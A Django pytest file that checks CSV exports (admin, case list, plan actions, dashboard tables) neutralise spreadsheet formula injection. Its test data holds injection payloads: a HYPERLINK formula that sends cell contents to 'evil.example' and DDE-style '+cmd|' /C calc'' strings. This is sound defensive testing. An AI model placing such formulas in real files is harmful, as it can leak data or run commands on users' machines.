"""Every download neutralises text a spreadsheet would run as a formula (issue 10.3).

A cell that starts with = + - @ (or a tab or carriage return) gets a quote in front;
numbers stay numbers. One test per export: the admin's downloads, /cases/export.csv,
/plans/<id>/actions.csv and the dashboards' table downloads.
"""

import csv
import datetime
import io

import pytest
from django.forms import BooleanField
from import_export.resources import ModelResource

from cases.models import Case
from cases.tests.factories import CaseFactory
from dashboards.rollup import rollup_all
from feedback.tests.factories import FeedbackFactory
from improvement_plans.importing import actions_import
from improvement_plans.tests.factories import ActionFactory, ObjectiveFactory, PlanFactory
from organisation.spreadsheets import NeutraliseFormulaeMixin, neutralise, restore

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def flat(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def assert_no_raw_formula(rows):
    raw = [cell for cell in flat(rows) if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert raw == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain", "Plain"),
        ("a=1", "a=1"),
        ("", ""),
        (-5, -5),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_neutralise_touches_only_formula_like_text(value, expected):
    assert neutralise(value) == expected
    if isinstance(value, str):
        assert restore(neutralise(value)) == value


def test_every_import_export_resource_in_the_project_neutralises():
    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = {
        cls
        for cls in subclasses(ModelResource)
        if cls.__module__.split(".")[0]
        in {"organisation", "cases", "audits", "feedback", "dashboards", "improvement_plans"}
        and "tests" not in cls.__module__
    }
    assert {"CaseResource", "FeedbackResource", "ActionResource", "RegionResource", "UserResource"} <= {
        c.__name__ for c in ours
    }, sorted(c.__name__ for c in ours)
    assert [c.__qualname__ for c in ours if not issubclass(c, NeutraliseFormulaeMixin)] == []


def _admin_export(admin_client, model_path: str) -> list[list[str]]:
    form = admin_client.get(f"/admin/{model_path}/export/").context["form"]
    data = {"format": "0", "resource": "0"}  # CSV, the kind's one resource
    # Every column the form offers (import-export 4 shows one tick box per field).
    data.update({name: "on" for name, field in form.fields.items() if isinstance(field, BooleanField)})
    response = admin_client.post(f"/admin/{model_path}/export/", data)
    return cells(response)


def test_admin_feedback_export_neutralises_a_public_comment(admin_client, team):
    FeedbackFactory(case=CaseFactory(team=team), comments=FORMULA, helpfulness=3)
    rows = _admin_export(admin_client, "feedback/feedback")
    assert "'" + FORMULA in flat(rows)
    assert_no_raw_formula(rows)
    header, row = rows[0], rows[1]
    assert row[header.index("helpfulness")] == "3"


@pytest.mark.parametrize(
    ("model_path", "make"),
    [
        ("organisation/region", lambda team: setattr_save(team.region, "name", "@SUM(1+1)")),
        ("organisation/team", lambda team: setattr_save(team, "name", "+cmd|' /C calc'!A0")),
        ("organisation/user", lambda team: make_user(team)),
        ("cases/case", lambda team: legacy_case(team)),
    ],
)
def test_every_admin_export_neutralises(admin_client, team, model_path, make):
    make(team)
    rows = _admin_export(admin_client, model_path)
    assert len(rows) > 1
    assert_no_raw_formula(rows)
    assert [cell for cell in flat(rows) if cell.startswith("'")], rows


def setattr_save(instance, field, value):
    setattr(instance, field, value)
    instance.save()


def make_user(team):
    from organisation.tests.factories import UserFactory

    return UserFactory(username="spready", full_name="-2+3+cmd|' /C calc'!A0", team=team, roles=["practitioner"])


def legacy_case(team):
    """A reference stored before references were validated (validation would refuse it now)."""
    return Case.objects.create(
        reference="=1+1",
        region=team.region,
        team=team,
        law_type="private",
        application_type="section_7",
        received_on=datetime.date(2025, 4, 17),
    )


def test_case_list_download_neutralises(client, quality_admin, team):
    legacy_case(team)
    CaseFactory(reference="SAFE-1", team=team)
    client.force_login(quality_admin)
    rows = cells(client.get("/cases/export.csv"))
    assert "'=1+1" in flat(rows) and "SAFE-1" in flat(rows)
    assert_no_raw_formula(rows)


def test_plan_actions_download_neutralises_and_still_round_trips(client, assistant_director):
    plan = PlanFactory(region=None)
    objective = ObjectiveFactory(plan=plan, ref="1", order=1)
    ActionFactory(objective=objective, ref="1.1", how=FORMULA, owner_roles="", due_on=datetime.date(2026, 6, 30))
    action = objective.actions.get()
    action.owners.set([assistant_director])
    client.force_login(assistant_director)
    response = client.get(f"/plans/{plan.pk}/actions.csv")
    rows = cells(response)
    header, row = rows[0], rows[1]
    assert row[header.index("how")] == "'" + FORMULA
    assert row[header.index("owners")] == f"'@{assistant_director.username}"
    assert_no_raw_formula(rows)
    # Imported again as exported: nothing changes (the quotes come off again).
    report = actions_import(plan=plan, text=response.content.decode(), today=datetime.date(2026, 3, 10), dry_run=False)
    assert report.ok, report.errors
    action.refresh_from_db()
    assert action.how == FORMULA
    assert list(action.owners.all()) == [assistant_director]


def test_dashboard_table_download_neutralises_text_and_keeps_numbers(client, service_manager, team):
    team.name = '=HYPERLINK("http://evil.example")'
    team.save()
    FeedbackFactory(case=CaseFactory(team=team), received_on=datetime.date(2025, 6, 3), helpfulness=6)
    rollup_all()
    client.force_login(service_manager)
    rows = cells(client.get(f"/dashboards/regions/{team.region.code}/?period=2025-06&format=csv&table=teams"))
    assert_no_raw_formula(rows)
    team_row = next(row for row in rows[1:] if row[0] == "'" + team.name)
    assert any(cell.isdigit() for cell in team_row[1:])  # figures are written as numbers, unquoted
